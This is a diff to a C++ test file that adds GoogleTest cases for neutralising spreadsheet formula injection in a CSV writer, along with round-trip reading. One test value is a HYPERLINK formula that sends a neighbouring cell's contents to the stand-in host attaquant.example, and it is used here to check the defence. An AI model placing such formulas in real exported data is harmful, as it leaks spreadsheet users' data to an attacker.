@@ -31,6 +31,36 @@ INSTANTIATE_TEST_SUITE_P(
                     CasChamp{"derrière ", "\"derrière \""}, CasChamp{"\ttab", "\"\ttab\""},
                     CasChamp{"au milieu", "au milieu"}, CasChamp{"a,b", "a,b"}));
 
+struct CasFormule {
+    const char* texte;
+    const char* ecrit;
+};
+
+class Formule : public testing::TestWithParam<CasFormule> {};
+
+// What a spreadsheet would run goes out behind an apostrophe, and the reader
+// gives back the text exactly, those that begin with an apostrophe included.
+TEST_P(Formule, EstNeutraliseeEtSeRelitALIdentique) {
+    EXPECT_EQ(TexteSansFormule(GetParam().texte), GetParam().ecrit);
+    EXPECT_EQ(AvecFormule(GetParam().ecrit), GetParam().texte);
+}
+
+INSTANTIATE_TEST_SUITE_P(Table, Formule,
+                         testing::Values(CasFormule{"=HYPERLINK(\"http://attaquant.example/?v=\"&B3)",
+                                                    "'=HYPERLINK(\"http://attaquant.example/?v=\"&B3)"},
+                                         CasFormule{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
+                                         CasFormule{"-2+3", "'-2+3"}, CasFormule{"@SUM(A1)", "'@SUM(A1)"},
+                                         CasFormule{"\tcmd", "'\tcmd"}, CasFormule{"\r=1", "'\r=1"},
+                                         CasFormule{"＝1+1", "'＝1+1"}, CasFormule{"＋1", "'＋1"},
+                                         CasFormule{"－1", "'－1"}, CasFormule{"＠A1", "'＠A1"},
+                                         // A text that begins with an apostrophe and a formula sign.
+                                         CasFormule{"'=1", "''=1"}, CasFormule{"''-x", "'''-x"},
+                                         // Nothing to hide.
+                                         CasFormule{"", ""}, CasFormule{"'", "'"}, CasFormule{"'a", "'a"},
+                                         CasFormule{"''", "''"}, CasFormule{"Dupont", "Dupont"},
+                                         CasFormule{"Jean-Paul", "Jean-Paul"}, CasFormule{" =1", " =1"},
+                                         CasFormule{"a=b", "a=b"}));
+
 TEST(EcrivainTableur, MetLaMarqueUneFoisPuisDesLignesCRLF) {
     std::ostringstream sortie;
     TEcrivainTableur e(sortie);
